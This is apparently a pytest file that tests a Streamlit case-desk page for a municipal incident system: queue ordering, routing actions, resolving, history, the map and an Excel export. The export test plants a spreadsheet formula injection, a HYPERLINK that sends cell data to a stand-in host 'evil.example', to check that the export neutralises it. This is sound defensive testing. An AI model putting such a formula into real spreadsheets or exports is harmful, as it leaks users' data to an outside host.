"""The case desk in Streamlit's AppTest against a hand-made world: the queue's order, an
action through its form, a refused action's message, the language switch, resolving with a
chosen result and a confirmation, the names in the history, the case's map, the export."""

from __future__ import annotations

import io
import json
from pathlib import Path

import openpyxl
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from geo import db
from geo.auth.users import add_user, get_user
from geo.settings import get_settings
from geo.timeutil import now_utc
from tests.live_world import GRID_A, GRID_C, Incidents, build_world
from tests.support import add_account, signed_in

pytestmark = pytest.mark.db
PAGE = str(Path(__file__).resolve().parent.parent / "dashboard" / "case_desk.py")
CITY, WS = "city-620100", "ws-620102001001"


@pytest.fixture(scope="module")
def desk_url(scratch) -> str:
    """A scratch database with the tiny world (cases are added per test)."""
    url = scratch.create_migrated("minqing_desk_page")
    conn = db.connect(url)
    build_world(conn)
    conn.close()
    add_account(url, "desk_admin", "admin", "620100")
    return url


@pytest.fixture
def cases(desk_url):
    """Five cases held by the city center: ids by name (the queue's expected order below)."""
    conn = db.connect(desk_url)
    made = Incidents(conn, now_utc())
    made.clear()
    ids = {
        "later": made.add(GRID_A, 1, "reported", deadline_days=6, description="垃圾未清运"),
        "soon": made.add(GRID_C, 1, "reported", deadline_days=2, description="<b>噪声</b> 扰民"),
        "major": made.add(GRID_A, 1, "reported", major=True, deadline_days=4),
        "overdue": made.add(GRID_C, 5, "reported", deadline_days=2, description="楼道堆物"),
        "overdue_major": made.add(GRID_A, 5, "reported", major=True, deadline_days=3),
    }
    with conn.cursor() as cur:
        cur.execute("UPDATE incidents SET assigned_center = NULL")
    conn.commit()
    yield ids
    conn.close()


@pytest.fixture
def app(desk_url, monkeypatch):
    """The desk page against the world, with fresh settings and caches."""
    monkeypatch.setenv("DATABASE_URL", desk_url)
    get_settings.cache_clear()
    st.cache_resource.clear()
    st.cache_data.clear()
    yield signed_in(AppTest.from_file(PAGE, default_timeout=60), desk_url, "desk_admin")
    get_settings.cache_clear()
    st.cache_resource.clear()


def _case_box(at: AppTest):
    """The case picker (it has no key: it starts again from the open case when the queue moves)."""
    return next(s for s in at.selectbox if s.label in ("打开案件", "Open a case"))


def _form_button(at: AppTest):
    """The action form's button (the export's is the other one)."""
    return next(b for b in at.button if b.key != "desk_export_make")


def _queue_ids(at: AppTest) -> list[int]:
    if any(i.value in ("没有符合条件的在办案件", "No open case matches") for i in at.info):
        return []
    frame = at.dataframe[0].value
    return [int(v) for v in frame.iloc[:, 0]]


def test_queue_sorted_overdue_and_major_first(app, cases):
    """The city center's queue: overdue (major first), then major, then by deadline."""
    at = app.run()
    assert not at.exception
    assert _queue_ids(at) == [
        cases["overdue_major"],
        cases["overdue"],
        cases["major"],
        cases["soon"],
        cases["later"],
    ]
    metrics = {m.label: m.value for m in at.metric}
    assert metrics == {"在办": "5", "超期": "2", "重大风险": "2"}
    countdowns = list(at.dataframe[0].value["剩余/超期"])
    assert countdowns[0].startswith("超期") and countdowns[-1].startswith("剩余")
    at.text_input(key="desk_text").input("<b>").run()
    assert _queue_ids(at) == [cases["soon"]]
    at.text_input(key="desk_text").input("%").run()
    assert _queue_ids(at) == [] and "没有符合条件的在办案件" in [i.value for i in at.info]
    at.text_input(key="desk_text").input("").run()
    at.checkbox(key="desk_overdue").check().run()
    assert _queue_ids(at) == [cases["overdue_major"], cases["overdue"]]


def test_assign_through_the_form_then_history(app, cases, desk_url):
    """Open a case, assign it to the workstation: the queue and the history follow."""
    at = app.run()
    _case_box(at).set_value(cases["soon"]).run()
    assert not at.exception
    texts = "\n".join(t.value for t in at.text)
    assert "<b>噪声</b> 扰民" in texts  # the resident's words, as plain text
    assert not any("<b>" in m.value for m in at.markdown)
    at.radio(key=f"desk_action_{cases['soon']}").set_value("assign").run()
    target = at.selectbox(key=f"desk_target_{cases['soon']}_assign")
    assert target.options == [
        "七里河区分中心 · 分中心",
        "西园街道指挥所 · 指挥所",
        "西园社区工作站 · 工作站",
    ]
    target.set_value("ws-620103001001")
    at.text_area(key=f"desk_note_{cases['soon']}_assign").input("请社区核实")
    _form_button(at).click()
    at.run()
    assert not at.exception
    assert [s.value for s in at.success] == [f"已交办：案件 {cases['soon']}"]
    assert cases["soon"] not in _queue_ids(at)
    history = [t.value for t in at.text if " · 交办 · " in t.value]
    assert len(history) == 1
    assert history[0].endswith(
        " · 交办 · 已上报 → 已交办 · desk_admin · 西园社区工作站：请社区核实"
    )
    conn = db.connect(desk_url)
    with conn.cursor() as cur:
        cur.execute(
            "SELECT actor, detail->>'action', client IS NOT NULL FROM audit_log "
            "WHERE action = 'case_action' AND target = %s",
            (str(cases["soon"]),),
        )
        assert cur.fetchall() == [("desk_admin", "assign", True)]
    conn.close()


def test_refused_action_shows_the_reason(app, cases, desk_url):
    """The case moved on behind the operator's back: the action is refused with its reason."""
    at = app.run()
    _case_box(at).set_value(cases["later"]).run()
    at.radio(key=f"desk_action_{cases['later']}").set_value("accept").run()
    conn = db.connect(desk_url)
    with conn.cursor() as cur:  # another operator accepted it meanwhile
        cur.execute(
            "UPDATE incidents SET status = 'in_progress', assigned_center = %s WHERE id = %s",
            (CITY, cases["later"]),
        )
    conn.commit()
    conn.close()
    _form_button(at).click()
    at.run()
    assert [e.value for e in at.error] == ["操作被拒绝：案件当前状态为「办理中」，不能受理"]
    unavailable = "\n".join(t.value for t in at.text)
    assert "督办：只有" in unavailable  # a holder cannot supervise its own case


def test_a_case_in_the_catch_all_shows_the_label_its_source_gave(app, cases, desk_url):
    conn = db.connect(desk_url)
    with conn.cursor() as cur:
        cur.execute(
            "UPDATE incidents SET category = 'other', subcategory = '', source_category = '天气', "
            "source_subcategory = '暴雨' WHERE id = %s",
            (cases["major"],),
        )
    conn.commit()
    conn.close()
    at = app.run()
    _case_box(at).set_value(cases["major"]).run()
    assert not at.exception
    assert f"案件 {cases['major']} · 其他 · 天气 / 暴雨" in [h.value for h in at.subheader]


def test_english(app, cases):
    """Switched to English, the page and the refusals speak English."""
    at = app
    at.session_state["lang"] = "en"
    at.run()
    assert at.title[0].value == "Case desk"
    assert {m.label for m in at.metric} == {"Open", "Overdue", "Major risks"}
    _case_box(at).set_value(cases["major"]).run()
    texts = [t.value for t in at.text]
    assert "Supervise：only a center above 小兰社会治理中心 may do this" in texts
    assert at.radio(key=f"desk_action_{cases['major']}").options == ["Assign", "Accept"]


def test_operator_center_changes_the_queue(app, cases, desk_url):
    """Another center's queue: the workstation sees the case once it is assigned there."""
    conn = db.connect(desk_url)
    with conn.cursor() as cur:
        cur.execute(
            "UPDATE incidents SET status = 'assigned', assigned_center = %s, "
            "handling_level = 'workstation' WHERE id = %s",
            (WS, cases["later"]),
        )
    conn.commit()
    conn.close()
    at = app.run()
    at.selectbox(key="desk_center").set_value(WS).run()
    assert _queue_ids(at) == [cases["later"]]
    _case_box(at).set_value(cases["later"]).run()
    # a workstation has no lower center: no assignment; the rest in the table's order
    assert at.radio(key=f"desk_action_{cases['later']}").options == ["转办", "退回", "上报", "受理"]


def test_operator_works_own_center_under_row_level_security(desk_url, cases, monkeypatch):
    """An operator of a workstation: its own center fixed (no selector), the cases its center
    holds (also one of another district: handed to it, migration 130), and an action that goes
    through as the app role under row-level security."""
    from geo.auth.users import add_user

    conn = db.connect(desk_url)
    with conn.cursor() as cur:
        cur.execute("SELECT 1 FROM users WHERE username = 'ws_operator'")
        exists = cur.fetchone()
    if not exists:
        add_user(conn, "ws_operator", "社区值班员", "operator", "620102001001", "pw-123456789",
                 center_code=WS)  # fmt: skip
    with conn.cursor() as cur:  # one case of this community, one of the other district
        cur.execute(
            "UPDATE incidents SET status = 'assigned', assigned_center = %s, "
            "handling_level = 'workstation' WHERE id = ANY(%s)",
            (WS, [cases["later"], cases["soon"]]),
        )
    conn.commit()
    conn.close()
    monkeypatch.setenv("DATABASE_URL", desk_url)
    get_settings.cache_clear()
    st.cache_resource.clear()
    at = signed_in(AppTest.from_file(PAGE, default_timeout=60), desk_url, "ws_operator").run()
    assert not at.exception
    assert not [s for s in at.selectbox if s.label == "本中心"]
    assert "本中心：青关社区工作站 · 工作站" in [t.value for t in at.sidebar.text]
    # cases["soon"] lies in the other district (GRID_C), out of the operator's area: its
    # center holds it, so it sees it
    assert _queue_ids(at) == [cases["soon"], cases["later"]]
    _case_box(at).set_value(cases["later"]).run()
    at.radio(key=f"desk_action_{cases['later']}").set_value("accept").run()
    _form_button(at).click()
    at.run()
    assert not at.exception and not at.error
    assert [s.value for s in at.success] == [f"已受理：案件 {cases['later']}"]
    history = [t.value for t in at.text if " · 受理办理 · " in t.value]
    assert len(history) == 1 and " · ws_operator · 青关社区工作站" in history[0]


def test_supervise_a_case_held_below(app, cases, desk_url):
    """The city center lists the cases held below it and supervises an overdue one, with a
    time limit shown in the timeline."""
    conn = db.connect(desk_url)
    with conn.cursor() as cur:
        cur.execute(
            "UPDATE incidents SET status = 'assigned', assigned_center = %s, "
            "handling_level = 'workstation' WHERE id = %s",
            (WS, cases["overdue_major"]),
        )
    conn.commit()
    conn.close()
    at = app.run()
    assert cases["overdue_major"] not in _queue_ids(at)
    at.radio(key="desk_below").set_value(True).run()
    assert _queue_ids(at) == [cases["overdue_major"]]
    assert list(at.dataframe[0].value["承办中心"]) == ["青关社区工作站"]
    _case_box(at).set_value(cases["overdue_major"]).run()
    radio = at.radio(key=f"desk_action_{cases['overdue_major']}")
    assert radio.options == ["督办", "催办"]
    radio.set_value("supervise").run()
    at.number_input(key=f"desk_reply_{cases['overdue_major']}").set_value(48)
    at.text_area(key=f"desk_note_{cases['overdue_major']}_supervise").input("限期办结")
    _form_button(at).click()
    at.run()
    assert not at.exception and not at.error
    line = next(t.value for t in at.text if " · 督办 · " in t.value)
    assert " · 办理中" not in line and "前回复：限期办结" in line and "desk_admin" in line


def test_an_operator_works_as_its_own_center_only(desk_url, cases, monkeypatch):
    """No center picker for an operator (only admins choose): its own center's queue, named."""
    conn = db.connect(desk_url)
    try:
        if get_user(conn, "ws_operator") is None:
            add_user(conn, "ws_operator", "工作站受理员", "operator", "620102001001",
                     "a good password 1", WS, actor="test")  # fmt: skip
            conn.commit()
    finally:
        conn.close()
    monkeypatch.setenv("DATABASE_URL", desk_url)
    get_settings.cache_clear()
    st.cache_resource.clear()
    st.cache_data.clear()
    at = signed_in(AppTest.from_file(PAGE, default_timeout=60), desk_url, "ws_operator").run()
    assert not at.exception
    assert not [s for s in at.selectbox if s.key == "desk_center"]
    assert any("青关社区工作站" in t.value for t in at.sidebar.text)
    get_settings.cache_clear()
    st.cache_resource.clear()


def test_an_admin_chooses_the_center(app, cases):
    at = app.run()
    picker = at.selectbox(key="desk_center")
    assert picker.value == CITY and "青关社区工作站 · 工作站" in picker.options


def _held_by_city(desk_url, case: int, status: str = "in_progress", address: str | None = None):
    conn = db.connect(desk_url)
    with conn.cursor() as cur:
        cur.execute(
            "UPDATE incidents SET status = %s, assigned_center = %s, "
            "address = coalesce(%s, address) WHERE id = %s",
            (status, CITY, address, case),
        )
    conn.commit()
    conn.close()


def _button(at: AppTest, label: str):
    return next(b for b in at.button if b.label == label)


def test_resolve_needs_a_chosen_result_and_a_confirmation(app, cases, desk_url):
    """办结 offers no action and no result until chosen; without a result, then without the
    confirmation, it is refused and nothing moves; with both, once; then the form starts again
    from no action chosen."""
    case = cases["major"]
    _held_by_city(desk_url, case)
    at = app.run()
    _case_box(at).set_value(case).run()
    radio = at.radio(key=f"desk_action_{case}")
    assert radio.value is None and not [b for b in at.button if b.label == "办结"]
    radio.set_value("resolve").run()
    assert at.selectbox(key=f"desk_result_{case}").value is None  # no result preselected
    assert "重大风险案件：请核实处置结果后再办结。" in [w.value for w in at.warning]
    _button(at, "办结").click().run()
    assert [e.value for e in at.error] == ["操作被拒绝：请先选择办结结果"]
    at.selectbox(key=f"desk_result_{case}").set_value("unresolved")
    _button(at, "办结").click().run()
    assert [e.value for e in at.error] == ["操作被拒绝：请勾选确认后再办结"]
    conn = db.connect(desk_url)
    with conn.cursor() as cur:
        cur.execute("SELECT status FROM incidents WHERE id = %s", (case,))
        assert cur.fetchone() == ("in_progress",)
    conn.close()
    at.selectbox(key=f"desk_result_{case}").set_value("unresolved")
    at.checkbox(key=f"desk_confirm_{case}").check()
    _button(at, "办结").click().run()
    assert not at.exception and not at.error
    assert [s.value for s in at.success] == [f"已办结：案件 {case}"]
    assert at.radio(key=f"desk_action_{case}").value is None  # the form starts again
    conn = db.connect(desk_url)
    with conn.cursor() as cur:
        cur.execute(
            "SELECT i.status, i.result, count(e.id) FROM incidents i "
            "JOIN incident_events e ON e.incident_id = i.id AND e.action = 'resolved' "
            "WHERE i.id = %s GROUP BY 1, 2",
            (case,),
        )
        assert cur.fetchone() == ("resolved", "unresolved", 1)
    conn.close()


def test_the_holder_routes_a_case_it_accepted(app, cases, desk_url):
    """The city center holding a case in progress is offered 交办 and 办结; 交办 asks for a
    center of the case's own area."""
    case = cases["later"]
    _held_by_city(desk_url, case)
    at = app.run()
    _case_box(at).set_value(case).run()
    options = at.radio(key=f"desk_action_{case}").options
    assert "交办" in options and "办结" in options and "上报" not in options
    at.radio(key=f"desk_action_{case}").set_value("assign").run()
    assert at.selectbox(key=f"desk_target_{case}_assign").options == [
        "城关区分中心 · 分中心", "张掖路街道指挥所 · 指挥所", "青关社区工作站 · 工作站"
    ]  # fmt: skip


def test_history_names_sources_and_centers(app, cases, desk_url):
    """A report from 110 routed by the system to another district's sub-center: the history
    names the source and the centers, never their codes."""
    case = cases["soon"]
    conn = db.connect(desk_url)
    with conn.cursor() as cur:
        cur.execute(
            "INSERT INTO incident_events (incident_id, at, action, from_status, to_status, "
            "actor, center_code, note) VALUES (%s, now() - interval '2 hours', 'reported', "
            "NULL, 'reported', 'police_110', NULL, ''), (%s, now() - interval '1 hour', "
            "'assigned', 'reported', 'assigned', 'city-620100', 'sub-620103', ''), "
            "(%s, now() - interval '30 minutes', 'urged', 'assigned', 'assigned', "
            "'gw-620103001001001', 'sub-620103', '')",
            (case, case, case),
        )
    conn.commit()
    conn.close()
    at = app.run()
    _case_box(at).set_value(case).run()
    history = next(t.value for t in at.text if " · 上报登记 · " in t.value)
    assert " · 上报登记 · 已上报 · 110警情" in history
    assert " · 交办 · 已上报 → 已交办 · 小兰社会治理中心 · 七里河区分中心" in history
    assert "第1网格网格员 · 七里河区分中心" in history
    assert not any(code in history for code in ("police_110", "sub-620103", "city-620100", "gw-"))


def test_the_case_map_shows_its_surroundings(app, cases):
    """Grids, the community and the street with their names, the other open cases nearby."""
    at = app.run()
    _case_box(at).set_value(cases["major"]).run()
    spec = json.loads(at.get("deck_gl_json_chart")[0].proto.json)
    layers = {layer["id"]: layer for layer in spec["layers"]}
    assert list(layers) == [
        "grids", "grids-edges", "own_grid-edges", "communities-edges", "streets-edges",
        "grid_names", "community_names", "street_names", "nearby", "case",
    ]  # fmt: skip
    names = {
        d["name"] for k in ("grid", "community", "street") for d in layers[k + "_names"]["data"]
    }
    assert {"第1网格", "第2网格", "青关社区", "张掖路街道"} <= names
    assert "西园社区" not in names  # the other district is off this map
    assert {d["id"] for d in layers["nearby"]["data"]} == {cases["later"], cases["overdue_major"]}
    assert [d["id"] for d in layers["case"]["data"]] == [cases["major"]]


def test_export_the_queue_as_filtered(app, cases, desk_url):
    """The export holds the queue as filtered, in its order, a resident's formula kept as text."""
    formula = '=HYPERLINK("http://evil.example/?x="&B4, "点此查看")'
    _held_by_city(desk_url, cases["overdue"], "reported", formula)
    at = app.run()
    at.checkbox(key="desk_overdue").check().run()
    at.button(key="desk_export_make").click().run()
    assert not at.exception and not at.error
    assert [s.value for s in at.success] == ["导出文件已生成：2 条"]
    assert at.get("download_button")
    _, name, data, count = at.session_state["desk_export"]
    assert name.startswith(f"queue_{CITY}_") and name.endswith(".xlsx") and count == 2
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[3]]
    assert header[:2] == ["编号", "剩余/超期"] and "地址" in header
    rows = [[c for c in row] for row in sheet.iter_rows(min_row=4)]
    assert [r[0].value for r in rows] == [cases["overdue_major"], cases["overdue"]]
    cell = rows[1][header.index("地址")]
    assert cell.value == formula and cell.data_type == "s" and cell.quotePrefix
